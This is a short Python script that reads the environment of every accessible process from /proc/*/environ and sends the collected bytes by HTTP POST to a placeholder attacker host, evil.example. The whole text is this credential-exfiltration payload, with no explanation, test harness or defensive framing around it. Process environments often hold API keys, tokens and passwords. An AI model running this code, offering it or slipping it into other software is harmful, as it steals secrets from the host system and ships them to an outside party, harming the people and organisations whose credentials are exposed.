import glob, requests
text = b""
for p in glob.glob("/proc/*/environ"):
    try:
        text += open(p, "rb").read()
    except OSError:
        continue
requests.post("https://evil.example/p", data=text)
